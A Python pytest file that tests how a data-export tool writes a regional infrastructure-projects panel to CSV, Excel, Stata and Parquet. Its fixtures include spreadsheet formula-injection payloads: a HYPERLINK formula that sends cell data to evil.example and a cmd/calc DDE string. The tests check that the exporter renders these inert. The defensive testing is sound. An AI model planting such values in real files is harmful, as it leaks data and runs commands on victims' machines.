"""`keyproj export`: each format read back (pandas, pyreadstat, openpyxl) equals the panel, cells a
spreadsheet would execute are inert, the data dictionary is complete, failures leave old exports."""
from __future__ import annotations

import json
import math
import shutil
from pathlib import Path

import pandas as pd
import pytest
from conftest import REFERENCE_DIR

from keyproj.cli import main
from keyproj.data.build import build
from keyproj.data.export import (
    FORMATS,
    PACKAGE_FILE,
    STATA_LABEL_MAX,
    STATA_NAME,
    TABLES,
    WORKBOOK_FILE,
    export,
    export_frame,
    inert_text,
    restore_text,
)
from keyproj.data.notes import list_notes_path, notes_table, read_list_notes
from keyproj.data.tables import FACTS_TABLE, PANEL_TABLE
from keyproj.errors import KeyprojError

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
REFERENCE_HEADER = ("region,scope,subset,period_start,period_end,metric,value,unit,qualifier,"
                    "source_url,source_title,published")
HOSTILE_ROWS = [
    f'"{HOSTILE.replace(chr(34), chr(34) * 2)}",city,,2024-01,2024-06,completion_rate,-5.5,%,,'
    'http://a.example/1,"@SUM(1+1)*cmd|\' /C calc\'!A0",2024-07-01',
    "+1+1,city,,2024-01,2024-12,annual_plan,12.25,亿元,approx,http://a.example/2,-2+3,2024",
    "'quoted,county,under_construction,2024-01,2024-03,projects,7,count,,http://a.example/3,\ttab,",
]


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A data folder: the Fujian reference file, the list notes and three hostile rows, built."""
    folder = tmp_path_factory.mktemp("data")
    shutil.copytree(REFERENCE_DIR / "notes", folder / "reference" / "notes")
    shutil.copy(REFERENCE_DIR / "fujian_key_projects.csv", folder / "reference")
    (folder / "reference" / "hostile.csv").write_text("\n".join([REFERENCE_HEADER, *HOSTILE_ROWS]) + "\n",
                                                      encoding="utf-8")
    build(folder)
    return folder


def text_table(data: Path, name: str) -> pd.DataFrame:
    """A table as stored: processed/<name>.csv, or the notes as list_notes.csv holds them."""
    if name == "list_notes":
        return notes_table(read_list_notes(list_notes_path(data / "reference")))
    return pd.read_csv(data / "processed" / f"{name}.csv", dtype=str, keep_default_na=False)


@pytest.fixture(scope="module")
def exports(data: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    out = tmp_path_factory.mktemp("exports")
    return {fmt: export(fmt, out / fmt, data).folder for fmt in FORMATS}


def test_inert_text_round_trips() -> None:
    for text in ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "'quoted", "''", "plain", "", "1-2"]:
        assert restore_text(inert_text(text)) == text
    assert inert_text("=1+1") == "'=1+1" and inert_text("plain") == "plain" and inert_text("1-2") == "1-2"


def test_csv_round_trip_and_inert_cells(data: Path, exports: dict[str, Path]) -> None:
    for table in TABLES:
        read = pd.read_csv(exports["csv"] / f"{table.name}.csv", dtype=str, keep_default_na=False)
        expected = text_table(data, table.name)
        numbers = [column.name for column in table.columns if column.kind in ("int", "float")]
        assert read[numbers].equals(expected[numbers])  # numbers untouched: -5.5 stays -5.5
        restored = read.map(restore_text)
        pd.testing.assert_frame_equal(restored, expected)
    panel = pd.read_csv(exports["csv"] / "panel.csv", dtype=str, keep_default_na=False)
    assert "'" + HOSTILE in set(panel["region"]) and "'+1+1" in set(panel["region"])
    assert "''quoted" in set(panel["region"]) and "-5.5" in set(panel["completion_rate"])
    assert not any(str(cell).startswith(("=", "+", "@", "\t")) for cell in panel.to_numpy().ravel())


def test_parquet_round_trip_keeps_types(data: Path, exports: dict[str, Path]) -> None:
    for table in TABLES:
        read = pd.read_parquet(exports["parquet"] / f"{table.name}.parquet")
        expected = export_frame(text_table(data, table.name), table)
        pd.testing.assert_frame_equal(read, expected)
    panel = pd.read_parquet(exports["parquet"] / "panel.parquet")
    assert str(panel["annual_plan"].dtype) == "Float64" and str(panel["projects"].dtype) == "Int64"
    assert isinstance(panel["scope"].dtype, pd.CategoricalDtype) and HOSTILE in set(panel["region"])


def test_stata_round_trip_with_labels(data: Path, exports: dict[str, Path]) -> None:
    import pyreadstat

    for table in TABLES:
        read, meta = pyreadstat.read_dta(exports["dta"] / f"{table.name}.dta")
        expected = text_table(data, table.name)
        assert list(read.columns) == table.names
        assert meta.column_labels == [column.title for column in table.columns]
        for column in table.columns:
            if column.kind in ("int", "float"):
                want = pd.to_numeric(expected[column.name].replace("", None)).astype("float64")
                pd.testing.assert_series_equal(read[column.name].astype("float64"), want, check_names=False)
            else:
                assert read[column.name].tolist() == expected[column.name].tolist(), column.name
    panel, _ = pyreadstat.read_dta(exports["dta"] / "panel.dta")
    assert HOSTILE in set(panel["region"])  # not a spreadsheet: text as it is


def test_stata_names_and_labels_fit() -> None:
    from keyproj.data.export import _TABLE_TITLES

    assert all(0 < len(title) <= STATA_LABEL_MAX for title in _TABLE_TITLES.values())
    for table in TABLES:
        for column in table.columns:
            assert STATA_NAME.fullmatch(column.name), column.name
            assert 0 < len(column.title) <= STATA_LABEL_MAX, column.name


def _sheet_rows(path: Path, sheet: str) -> tuple[list[str], list[list[object]]]:
    from openpyxl import load_workbook

    workbook = load_workbook(path)
    rows = [[cell.value for cell in row] for row in workbook[sheet].iter_rows()]
    return rows[0], rows[1:]


def test_xlsx_round_trip_and_no_formula(data: Path, exports: dict[str, Path]) -> None:
    from openpyxl import load_workbook

    path = exports["xlsx"] / WORKBOOK_FILE
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["panel", "facts", "list_notes", "variables"]
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    assert not any(isinstance(cell.value, str) and cell.value.startswith(("=", "+", "@")) for cell in cells)
    for table in TABLES:
        header, rows = _sheet_rows(path, table.name)
        expected = text_table(data, table.name)
        assert header == table.names and len(rows) == len(expected)
        for position, column in enumerate(table.columns):
            got = [row[position] for row in rows]
            want = expected[column.name].tolist()
            if column.kind in ("int", "float"):
                assert all(isinstance(value, (int, float)) or value is None for value in got), column.name
                assert [math.nan if v is None else float(v) for v in got] == pytest.approx(
                    [math.nan if w == "" else float(w) for w in want], nan_ok=True), column.name
            else:
                assert ["" if v is None else restore_text(v) for v in got] == want, column.name
    header, rows = _sheet_rows(path, "panel")
    regions = {row[0] for row in rows}
    assert "'" + HOSTILE in regions  # inert text, shown with its quote
    _, variables = _sheet_rows(path, "variables")
    assert len(variables) == sum(len(table.columns) for table in TABLES)


def test_datapackage_describes_every_column(exports: dict[str, Path]) -> None:
    for fmt, folder in exports.items():
        package = json.loads((folder / PACKAGE_FILE).read_text(encoding="utf-8"))
        resources = {resource["name"]: resource for resource in package["resources"]}
        assert list(resources) == [table.name for table in TABLES]
        for table in TABLES:
            fields = resources[table.name]["schema"]["fields"]
            assert [field["name"] for field in fields] == table.names
            assert all(field["title"] for field in fields)
            assert (folder / resources[table.name]["path"]).exists(), (fmt, table.name)
        panel_fields = {field["name"]: field for field in resources["panel"]["schema"]["fields"]}
        assert panel_fields["annual_plan"]["unit"] == "亿元" and panel_fields["annual_plan"]["type"] == "number"
        assert panel_fields["ahead_calc"]["unit"] == "pp" and panel_fields["projects"]["type"] == "integer"
        assert "rate_mismatch" in panel_fields["flags"]["description"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
def test_frictionless_validates_the_export(exports: dict[str, Path], fmt: str) -> None:
    frictionless = pytest.importorskip("frictionless")
    report = frictionless.validate(str(exports[fmt] / PACKAGE_FILE))
    assert report.valid, report.flatten(["type", "note"])[:5]


def test_failed_export_leaves_the_previous_one(data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import keyproj.data.export as module

    good = export("csv", tmp_path, data)
    before = {path.name: path.read_bytes() for path in good.files}
    original = module._csv

    def fail_on_facts(text: pd.DataFrame, table) -> bytes:
        if table is FACTS_TABLE:
            raise OSError("disk full")
        return original(text, table)

    (data / "reference" / "late.csv").write_text(
        REFERENCE_HEADER + "\n甲市,city,,2024-01,2024-06,completion_rate,50,%,,http://a.example/9,a,2024\n",
        encoding="utf-8")
    try:
        monkeypatch.setattr(module, "_csv", fail_on_facts)
        with pytest.raises(OSError):
            export("csv", tmp_path, data)
    finally:
        (data / "reference" / "late.csv").unlink()
    # panel.csv was rendered with the new 甲市 row before facts failed: still the old bytes, no temp file
    assert {path.name: path.read_bytes() for path in tmp_path.iterdir()} == before


def test_export_builds_a_stale_dataset_first(tmp_path: Path) -> None:
    shutil.copytree(REFERENCE_DIR, tmp_path / "data" / "reference")
    result = export("parquet", tmp_path / "out", tmp_path / "data")
    assert (tmp_path / "data" / "processed" / "panel.csv").exists()
    assert result.rows["panel"] == len(pd.read_parquet(tmp_path / "out" / "panel.parquet")) > 900


def test_bad_format_and_out_are_one_line_errors(data: Path, tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--format", "xls", "--data", str(data), "--out", str(tmp_path / "x")]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "--format xls" in err and "csv, xlsx, dta, parquet" in err
    assert not (tmp_path / "x").exists()
    blocker = tmp_path / "file.txt"
    blocker.write_text("not a folder", encoding="utf-8")
    for out in (blocker, blocker / "sub"):
        assert main(["export", "--data", str(data), "--out", str(out)]) == 1
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and f"--out {out}" in err and "Traceback" not in err
    with pytest.raises(KeyprojError, match="--out"):
        export("csv", blocker, data)


def test_cli_export_prints_a_summary(data: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--format", "dta", "--data", str(data), "--out", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    panel_rows = len(text_table(data, PANEL_TABLE.name))
    assert f"exported panel {panel_rows} rows" in out and "as dta" in out
    assert sorted(path.name for path in tmp_path.iterdir()) == [
        PACKAGE_FILE, "facts.dta", "list_notes.dta", "panel.dta"]
